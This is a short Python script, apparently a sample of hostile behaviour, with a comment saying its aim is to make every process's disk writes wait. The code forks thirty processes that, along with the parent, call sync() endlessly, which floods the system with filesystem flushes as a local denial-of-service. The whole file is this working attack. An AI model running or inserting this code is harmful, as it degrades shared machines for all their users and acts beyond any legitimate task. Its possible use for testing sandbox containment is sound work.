# Thirty processes ask again and again that the whole machine's disks be written out: everybody's writing would wait.
# held by: system calls
import ctypes
import os

library = ctypes.CDLL(None)
if library.syncfs(os.open("/", os.O_RDONLY)) == 0:
    for _ in range(30):
        if os.fork() == 0:
            while True:
                library.sync()
    while True:
        library.sync()
